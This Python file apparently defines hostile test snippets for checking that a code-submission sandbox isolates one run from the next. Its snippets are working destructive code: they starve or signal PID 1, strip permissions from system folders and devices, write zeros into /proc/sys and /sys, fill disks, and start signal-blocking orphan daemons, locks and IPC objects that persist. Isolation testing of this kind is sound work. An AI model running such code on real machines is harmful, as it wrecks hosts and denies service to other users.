# ruff: noqa: E501 (code of attackers)
"""Outlasting: what would be felt by the next submission, if anything at all were shared with it."""

from .case import snippets

EACH = "import ctypes, os, resource\nlibc = ctypes.CDLL(None, use_errno=True)\ndef each(*steps):\n    for step in steps:\n        try: step()\n        except Exception as e: pass\npids = [int(p) for p in os.listdir('/proc') if p.isdigit()] + [os.getppid()]\n"

OUTLASTING = {
    "lowers-limits": (
        "the limits of the first process are lowered, memory first",
        "kinds = [getattr(resource, n) for n in dir(resource) if n.startswith('RLIMIT_')]\neach(*(lambda p=p, k=k: resource.prlimit(p, k, (1 << 20, 1 << 20)) for p in {1, *pids} - {os.getpid()} for k in kinds))\n"
        "each(*(lambda p=p: libc.prlimit(p, 2, ctypes.byref((ctypes.c_ulong * 2)(1, 1)), None) for p in (1, os.getppid())))",
    ),
    "ends-the-keeper": (
        "the first process is given no time at all, and every signal",
        "each(lambda: resource.prlimit(1, resource.RLIMIT_CPU, (0, 0)), *(lambda n=n: os.kill(1, n) for n in range(1, 65)))",
    ),
    "lowers-priority": (
        "the priority of the first process, of the group and of the user is lowered",
        "each(*(lambda k=k, w=w: os.setpriority(k, w, 19) for k in (0, 1, 2) for w in (1, os.getppid(), os.getpgid(1) if 1 in pids else 0, os.getuid())))\n"
        "each(lambda: [libc.syscall(251, k, w, (3 << 13) | 7) for k in (1, 2, 3) for w in (1, os.getuid())])",
    ),
    "one-core": (
        "the first process is tied to one core",
        "one = {min(os.sched_getaffinity(0))}\neach(*(lambda p=p: os.sched_setaffinity(p, one) for p in {1, *pids} - {os.getpid()}))",
    ),
    "idle-class": (
        "the first process is put into the class of those that run when nobody else does",
        "each(*(lambda p=p: os.sched_setscheduler(p, 5, os.sched_param(0)) for p in {1, *pids} - {os.getpid()}))\n"
        "each(lambda: open('/proc/1/autogroup', 'w').write('19'), lambda: open('/proc/1/oom_score_adj', 'w').write('1000'))",
    ),
    "places-themselves": (
        "the rights of the writable folders themselves are changed, and of devices",
        "places = ['/', '/tmp', '/dev/shm', os.path.expanduser('~'), '/home', '/dev', '/dev/pts', '/proc', '/opt', '/dev/null', '/dev/zero', '/dev/urandom', '/dev/random', '/dev/full', '/dev/tty']\n"
        "before = {p: os.stat(p).st_mode for p in places if os.path.exists(p)}\neach(*(lambda p=p: os.chmod(p, 0o1) for p in before))\neach(*(lambda p=p: os.chmod(p, before[p] & 0o7777) for p in before if p.startswith(('/tmp', '/home/', '/dev/shm'))))\neach(*(lambda p=p: os.chmod(p, 0o1717) for p in ('/tmp', '/dev/shm')))",
    ),
    "times-of-places": (
        "the times of the writable folders and of devices are set",
        "each(*(lambda p=p: os.utime(p, (12345, 67890)) for p in ('/', '/tmp', '/dev/shm', '/home', os.path.expanduser('~'), '/dev', '/dev/pts', '/dev/null', '/dev/zero', '/dev/full', '/usr', '/proc')))",
    ),
    "attributes-of-places": (
        "extended attributes are hung on the writable folders",
        "each(*(lambda p=p, n=n: os.setxattr(p, n, b'hostile') for p in ('/tmp', '/dev/shm', os.path.expanduser('~'), '/dev/null') for n in ('user.left', 'trusted.left', 'security.left')))",
    ),
    "message-queue": (
        "a POSIX message queue keeps what the next one may read",
        "each(lambda: print(libc.mq_open(b'/hostile-was-here', 0o102, 0o777, None), ctypes.get_errno()))\n"
        "each(lambda: print(libc.syscall(240, b'hostile-was-here', 0o102, 0o777, None), ctypes.get_errno()))",
    ),
    "system-five": (
        "System V's shared memory, semaphores and message queues are made",
        "each(lambda: print(libc.shmget(1717, 4096, 0o1666), libc.msgget(1717, 0o1666), libc.semget(1717, 1, 0o1666), ctypes.get_errno()))",
    ),
    "abstract-socket": (
        "a process that went its own way holds a socket without a file",
        "import socket, time\nif not os.fork():\n    os.setsid()\n    if not os.fork():\n        s = socket.socket(socket.AF_UNIX); s.bind('\\0hostile-was-here'); s.listen()\n        t = socket.socket(); each(lambda: t.bind(('127.0.0.1', 1717)), t.listen)\n        time.sleep(600)\n    os._exit(0)\nos.wait()",
    ),
    "leaves-shared-memory": (
        "shared memory and a file without a name are kept open by a process that went its own way",
        "from multiprocessing import shared_memory\neach(lambda: shared_memory.SharedMemory('hostile-was-here', create=True, size=4096))\nif not os.fork():\n    os.setsid()\n    if not os.fork():\n        import time\n        fd = os.memfd_create('hostile'); os.write(fd, b'hostile-was-here')\n        time.sleep(600)\n    os._exit(0)\nos.wait()",
    ),
    "deaf-daemons": (
        "daemons without a parent, deaf to signals, write into every folder for ever",
        "import signal, time\nfor n in range(3):\n    if not os.fork():\n        os.setsid()\n        if not os.fork():\n            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\n            while True:\n                each(*(lambda p=p: open(f'{p}/hostile-{n}', 'w').write('left') for p in ('/tmp', '/dev/shm', os.path.expanduser('~'))))\n                time.sleep(0.05)\n        os._exit(0)\n    os.wait()",
    ),
    "kernel-keys": (
        "a key is put into each of the kernel's keyrings",
        "each(*(lambda r=r: libc.syscall(248, b'user', b'hostile', b'left', 4, r) for r in (-1, -2, -3, -4, -5)))\neach(lambda: libc.syscall(250, 1, b'hostile'), lambda: libc.syscall(250, 8, -3, -4))",
    ),
    "mounts-of-its-own": (
        "namespaces and mounts of its own are made, and the names of the machine changed",
        "each(*(lambda f=f: libc.unshare(f) for f in (0x10000000, 0x10020000, 0x20000, 0x4000000, 0x8000000, 0x40000000)))\n"
        "each(lambda: libc.mount(b'none', b'/tmp', b'tmpfs', 0, None), lambda: libc.umount2(b'/proc/sys', 2), lambda: libc.umount2(b'/tmp', 2), lambda: libc.sethostname(b'hostile', 7), lambda: libc.setns(os.open('/proc/1/ns/mnt', 0), 0))",
    ),
    "own-settings": (
        "the umask, the folder, the signals, the limits and the priority of its own are changed",
        "import signal\nos.umask(0o777); os.chdir('/'); os.nice(19)\neach(*(lambda k=k: resource.setrlimit(k, (resource.getrlimit(k)[0], resource.getrlimit(k)[0])) for k in range(16)))\n"
        "each(*(lambda n=n: signal.signal(n, signal.SIG_IGN) for n in range(1, 65) if n not in (2, 9, 17, 19)))\nos.environ['LEFT'] = 'hostile'",
    ),
    "settings-of-the-system": (
        "the settings of the system and of the first process are written",
        "import glob\nfor p in glob.glob('/proc/sys/**/*', recursive=True) + glob.glob('/sys/**', recursive=True)[:500] + glob.glob('/proc/1/*') + glob.glob('/proc/[a-z]*'):\n    each(lambda: os.write(os.open(p, os.O_WRONLY | os.O_NONBLOCK), b'0'))",
    ),
    "many-terminals": (
        "terminals are opened and kept, and their folder is written to",
        "kept = []\neach(*(lambda: kept.append(os.openpty()) for _ in range(40)), lambda: open('/dev/pts/hostile', 'w'), lambda: os.chmod('/dev/pts', 0o777))",
    ),
    "fills-the-places": (
        "every folder is filled to the last byte, and with names",
        "for p in ('/tmp', '/dev/shm', os.path.expanduser('~')):\n    def fill(p=p):\n        for n in range(10**5):\n            with open(f'{p}/hostile-{n}', 'wb') as f: f.write(bytes(8 << 20))\n    each(fill, *(lambda n=n, p=p: os.mkdir(f'{p}/hostile-d{n}') for n in range(500)))\neach(*(lambda p=p, n=n: os.remove(f'{p}/hostile-{n}') for p in ('/tmp',) for n in range(9)))",
    ),
    "leases-what-all-read": (
        "whoever opens the course's files and libraries is to wait for a lease, and to be watched",
        "import fcntl, glob, time, torch\nif not os.fork():\n    os.setsid()\n    if not os.fork():\n        kept = [open(p, 'rb') for p in (torch.__file__, *glob.glob('/opt/room/course/**/*.py', recursive=True))]\n        each(*(lambda f=f, k=k: fcntl.fcntl(f, fcntl.F_SETLEASE, k) for f in kept for k in (fcntl.F_WRLCK, fcntl.F_RDLCK)), lambda: fcntl.fcntl(os.open('/opt/room/course', 0), fcntl.F_NOTIFY, 63))\n        each(*(lambda p=p: libc.inotify_add_watch(libc.inotify_init(), p, 4095) for p in (b'/opt/room/course', b'/usr/lib')))\n        time.sleep(600)\n    os._exit(0)\nos.wait()",
    ),
    "locks-what-all-read": (
        "files that every submission reads are locked, by a process that went its own way",
        "import fcntl, time, torch\nif not os.fork():\n    os.setsid()\n    if not os.fork():\n        kept = [open(p, 'rb') for p in (torch.__file__, os.__file__, '/dev/null')]\n        each(*(lambda f=f: fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB) for f in kept))\n        time.sleep(600)\n    os._exit(0)\nos.wait()",
    ),
}
snippets("practice1", codes={name: (says, EACH + code) for name, (says, code) in OUTLASTING.items()})
